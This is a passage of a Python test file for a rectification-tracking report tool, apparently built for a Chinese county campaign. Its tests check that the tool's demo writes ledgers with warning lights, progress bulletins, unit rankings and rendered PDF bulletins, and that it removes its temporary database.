    units_with_items = {r[7] for r in rows[3:] if r[7]}
    assert {p.name.rsplit("-", 1)[0] for p in packs} == units_with_items
    assert len(packs) == 2 * len(units_with_items)
    assert f"{FOLDER}/ ({len(units_with_items)} 个责任单位" in out
    names = [p.name for p in reports.iterdir()]
    for prefix in ("工作进展通报", "典型案例通报", "单位排名", "践诺晒成效"):
        assert [n for n in names if prefix in n], prefix
        assert prefix in out


def test_demo_also_reports_the_campaign_in_progress(demo: DemoRun, tmp_path: Path) -> None:
    """Issue 14, point 4: besides the reports at the end, the demo writes those of 2023-08-21,
    inside 整改落实阶段, into a subfolder: its ledger has items in hand with red and yellow
    lights and 挂牌督办, its bulletin overdue items, its ranking a unit with overdue items."""
    from zhenggai.adapters._demo import MID_FOLDER

    reports = demo.reports
    assert demo.code == 0, demo.err
    mid = reports / MID_FOLDER
    assert "【整改落实阶段报告】截至 2023年8月21日 (专项行动进行中) 的报告 (10 个文件" in demo.out
    assert str(mid.resolve()) in demo.out
    assert not (mid / FOLDER).exists()  # the unit packs only at the end
    rows = _sheet_rows(mid / ledger_name(TITLE), "整改台账")
    assert rows[1][0].startswith("XX县  截至 2023年8月21日  共 ")
    header, data = rows[2], rows[3:]
    lights = {r[header.index("预警")] for r in data}
    assert {"红灯", "黄灯", "绿灯"} <= lights
    assert {r[header.index("状态")] for r in data} >= {"整改中", "已销号"}
    assert any(r[header.index("督办等级")] == "挂牌督办" for r in data)
    assert all(re.fullmatch(r"ZG-2023-\d{4}", r[header.index("问题编号")]) for r in data)
    (bulletin,) = mid.glob("*工作进展通报-20230821.html")
    text = re.sub(r"<[^>]+>", "", bulletin.read_text(encoding="utf-8"))
    match = re.search(r"逾期未办结(\d+)件", text)
    assert match is not None and int(match.group(1)) > 0, text[:400]
    assert "暂无数据" not in text
    (ranking,) = mid.glob("*单位排名-20230821.xlsx")
    table = _sheet_rows(ranking, "单位排名")
    column = table[2].index("逾期未办结")
    assert any(isinstance(r[column], int) and r[column] > 0 for r in table[3:])
    _the_mid_bulletin_reads_as_a_document(mid, tmp_path)


def _the_mid_bulletin_reads_as_a_document(mid: Path, tmp_path: Path) -> None:
    """The demo's 工作进展通报 of 2023-08-21 as LibreOffice prints it: 版头, 主送, a page number
    on every page, the unit table with its overdue units, seven charts with data, 落款."""
    from tests._rendering import page_texts, skip_without_tools, to_pdf
    from tests.test_reports_rendered import ISSUER

    skip_without_tools()
    (docx_file,) = mid.glob("*工作进展通报-20230821.docx")
    [pdf] = to_pdf([docx_file], tmp_path)
    texts = page_texts(pdf)
    assert len(texts) >= 5
    for number, page_text in enumerate(texts, 1):
        last = [line for line in page_text.splitlines() if line.strip()][-1]
        assert re.fullmatch(rf"\s*—\s*{number}\s*—\s*", last), (number, last)
    raw = "\f".join(texts)
    text = re.sub(r"[ \t]+", "", raw)
    assert (
        text.index(ISSUER) < text.index("第") < text.index("各成员单位：") < text.index("五、各责任单位进展")
    )
    flat = text.replace("\n", "")
    overdue = re.search(r"其中逾期未办结(\d+)件", flat)
    assert overdue is not None and int(overdue.group(1)) > 0
    assert re.search(r"红灯[1-9]\d*件", flat) and "挂牌督办" in flat
    assert [int(n) for n in re.findall(r"图(\d+)", text)] == [1, 2, 3, 4, 5, 6, 7]
    assert "暂无数据" not in text
    assert text.rstrip().endswith("—") and "二〇二三年八月二十一日" in text


def test_demo_keeps_the_reports_next_to_a_removed_database(cli: Callable[..., Run]) -> None:
    """Without --keep the temporary database goes, the reports folder beside it stays."""
    import shutil

    result = cli("demo")
    assert result.code == 0, result.err
    match = re.search(r"已写入 (.+):$", result.out, re.MULTILINE)
    assert match is not None
    folder = Path(match.group(1))
    try:
        assert folder.name == "zhenggai-reports" and (folder / ledger_name(TITLE)).exists()
        assert [p.name for p in folder.parent.iterdir()] == ["zhenggai-reports"]  # demo.db removed
    finally:
        shutil.rmtree(folder.parent)


def test_report_help_lists_every_kind(capsys: pytest.CaptureFixture[str]) -> None:
    with contextlib.redirect_stdout(io.StringIO()) as buffer:
        assert main(["report", "--help"]) == 0
    text = buffer.getvalue()
    for kind in KINDS:
        assert kind in text
    capsys.readouterr()
